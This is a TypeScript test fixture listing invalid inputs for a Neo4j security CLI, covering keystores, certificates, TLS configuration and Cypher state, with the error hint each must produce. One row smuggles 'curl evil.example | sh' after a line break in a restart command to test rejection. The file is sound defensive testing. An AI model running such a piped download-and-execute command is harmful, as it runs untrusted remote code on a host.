import { SECRETS } from "./secrets";

/** [what the user did, argv after `aura-secure`, env, the flag the message must name, the hint it must give]. `DIR` is replaced by a temp folder. */
export type CliRow = [string, string[], Record<string, string | undefined>, string, string];

const pw = { KEYSTORE_PASSWORD: SECRETS.keystorePassword };
const state = (s: unknown) => JSON.stringify(s);
const goodConnection = { uri: "neo4j+s://h:7687", user: "admin", password: { env: "PW" } };

export const cliRows: CliRow[] = [
  // keystore
  ["keystore key size 512", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k", "--key-size", "512"], pw, "--key-size", "allowed: 256"],
  ["keystore key size words", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k", "--key-size", "big"], pw, "--key-size", "allowed"],
  ["keystore alias with spaces", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "my key"], pw, "alias", "allowed"],
  ["keystore password too short", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k"], { KEYSTORE_PASSWORD: "short" }, "KEYSTORE_PASSWORD", "at least 8"],
  ["keystore password unset", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k"], { KEYSTORE_PASSWORD: undefined }, "KEYSTORE_PASSWORD", "not set"],
  ["keystore password non-ASCII", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k"], { KEYSTORE_PASSWORD: "pässwörd-lang" }, "KEYSTORE_PASSWORD", "printable ASCII"],
  ["keystore bad --password-env name", ["keystore", "create", "--out", "DIR/k.p12", "--alias", "k", "--password-env", "1BAD"], pw, "--password-env", "environment variable name"],
  ["keystore inspect missing file", ["keystore", "inspect", "DIR/none.p12"], pw, "none.p12", ""],
  ["keystore inspect not a keystore", ["keystore", "inspect", "DIR/not-a-keystore.txt"], pw, "keystore", "not a PKCS12 file"],
  ["keystore inspect wrong password", ["keystore", "inspect", "DIR/real.p12"], { KEYSTORE_PASSWORD: "wrong-password-1" }, "password", ""],
  // certs
  ["certs no names", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca"], {}, "--dns", "at least one"],
  ["certs bad policy", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "db.example.com", "--policies", "bolt,ftp"], {}, "ftp", "bolt"],
  ["certs bad key type", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "db.example.com", "--key-type", "dsa"], {}, "--key-type", "rsa"],
  ["certs bad key size", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "db.example.com", "--key-size", "1024"], {}, "--key-size", "2048"],
  ["certs days zero", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "db.example.com", "--days", "0"], {}, "--days", ""],
  ["certs days words", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "db.example.com", "--days", "year"], {}, "--days", ""],
  ["certs bad ip", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--ip", "300.1.1.1"], {}, "300.1.1.1", ""],
  ["certs bad dns name", ["certs", "create", "--out", "DIR/certs", "--ca-dir", "DIR/ca", "--dns", "bad name!"], {}, "bad name!", ""],
  ["certs letsencrypt missing live files", ["certs", "letsencrypt", "--live", "DIR/empty", "--out", "DIR/le"], {}, "--live", "privkey.pem"],
  // conf
  ["conf keystore without key name", ["conf", "render", "--out", "DIR/conf", "--keystore", "/etc/neo4j/k.p12"], {}, "--key-name", "go together"],
  ["conf relative keystore", ["conf", "render", "--out", "DIR/conf", "--keystore", "k.p12", "--key-name", "k"], {}, "--keystore", ""],
  ["conf bad client auth", ["conf", "render", "--out", "DIR/conf", "--client-auth", "MAYBE"], {}, "MAYBE", "REQUIRE"],
  ["conf bad tls version", ["conf", "render", "--out", "DIR/conf", "--tls-versions", "TLSv1"], {}, "TLSv1", "TLSv1.2"],
  ["conf bad cipher", ["conf", "render", "--out", "DIR/conf", "--ciphers", "RC4-MD5"], {}, "RC4-MD5", ""],
  ["conf bad port", ["conf", "render", "--out", "DIR/conf", "--bolt-port", "99999"], {}, "--bolt-port", ""],
  ["conf out missing", ["conf", "render", "--out", "DIR/nowhere"], {}, "--out", "does not exist"],
  ["conf bad password env", ["conf", "render", "--out", "DIR/conf", "--password-env", "A-B"], {}, "--password-env", "environment variable name"],
  ["conf check missing folder", ["conf", "check", "DIR/nowhere"], {}, "nowhere", "does not exist"],
  ["conf check --pass-env not a name", ["conf", "check", "DIR/conf", "--run-password-script", "--pass-env", "A-B"], {}, "--pass-env", "environment variable name"],
  ["letsencrypt restart command with a line break", ["certs", "letsencrypt", "--live", "DIR/empty", "--out", "DIR/le", "--restart-command", "systemctl restart neo4j\ncurl evil.example | sh"], {}, "--restart-command", "must be one line"],
  // cypher
  ["cypher no state", ["cypher", "plan"], {}, "--state", "missing"],
  ["cypher state not JSON", ["cypher", "plan", "--state", "{nope"], {}, "--state", "is not JSON"],
  ["cypher state file missing", ["cypher", "plan", "--state", "DIR/none.json"], {}, "--state", "does not exist"],
  ["cypher state env unset", ["cypher", "plan", "--state-env", "NO_SUCH_STATE_VAR"], { NO_SUCH_STATE_VAR: undefined }, "--state-env", "not set"],
  ["cypher state and config", ["cypher", "plan", "--state", "{}", "--config", "x.yaml"], {}, "--config", "not both"],
  ["cypher literal password in state", ["cypher", "plan", "--state", state({ connection: { ...goodConnection, password: SECRETS.password } })], {}, "--state.connection.password", "{env: NAME}"],
  ["cypher literal alias password", ["cypher", "plan", "--state", state({ connection: goodConnection, remoteAliases: [{ name: "remote-db", target: "neo4j", url: "neo4j+s://h:7687", credentials: { type: "stored", user: "u", password: SECRETS.aliasPassword } }] })], {}, "--state.remoteAliases[0].credentials.password", "must never be written here"],
  ["cypher misspelt key in state", ["cypher", "plan", "--state", state({ connection: goodConnection, role: [] })], {}, "--state.role", 'did you mean "roles"'],
  ["cypher insecure uri", ["cypher", "plan", "--state", state({ connection: { ...goodConnection, uri: "bolt://h:7687" } })], {}, "--state.connection.uri", "allowInsecureUrl"],
  ["cypher uri with a password", ["cypher", "plan", "--state", state({ connection: { ...goodConnection, uri: `bolt://u:${SECRETS.urlPassword}@h:7687` } })], {}, "--state.connection.uri", "must not hold credentials"],
  ["cypher secure uri with a password", ["cypher", "plan", "--state", state({ connection: { ...goodConnection, uri: `neo4j+s://u:${SECRETS.urlPassword}@h:7687` } })], {}, "--state.connection.uri", "must not hold credentials"],
  ["cypher unverified TLS", ["cypher", "apply", "--state", state({ connection: { ...goodConnection, uri: "neo4j+ssc://h:7687" } })], {}, "--state.connection.uri", "accepts any certificate"],
  ["cypher import unverified TLS", ["cypher", "import", "--uri", "bolt+ssc://h:7687", "--user", "admin", "--password-env", "PW"], { PW: SECRETS.password }, "--uri", "pass --allow-unverified-tls"],
  ["cypher import uri with a password", ["cypher", "import", "--uri", `neo4j+s://admin:${SECRETS.urlPassword}@h:7687`, "--user", "admin", "--password-env", "PW"], { PW: SECRETS.password }, "--uri", "give the user with --user and the password with --password-env"],
  ["aura cmk base URL with a password", ["aura", "cmk", "list", "--base-url", `https://admin:${SECRETS.urlPassword}@api.neo4j.io`], {}, "--base-url", "must not hold credentials"],
  ["verify --dbid with credentials", ["verify", "--outputs", "DIR/outputs.json", "--dbid", `admin:${SECRETS.urlPassword}@abcd1234`], {}, "--dbid", "must not hold credentials"],
  ["verify --dns-server with credentials", ["verify", "--outputs", "DIR/outputs.json", "--dbid", "abcd1234", "--dns-server", `admin:${SECRETS.urlPassword}@10.0.0.2:53`], {}, "--dns-server", "must not hold credentials"],
  ["cypher bad timeout", ["cypher", "plan", "--state", state({ connection: goodConnection }), "--timeout", "soon"], {}, "--timeout", "duration"],
  ["cypher config file missing", ["cypher", "plan", "--config", "DIR/none.yaml"], {}, "--config", "does not exist; expected the app's config file"],
  ["cypher config with a literal password", ["cypher", "plan", "--config", "DIR/secret-config.yaml"], {}, "neo4jAccess.connection.password", "{env: NAME}"],
  ["cypher previous and previous-env", ["cypher", "plan", "--state", state({ connection: goodConnection }), "--previous", "{}", "--previous-env", "X"], {}, "--previous", "not both"],
];
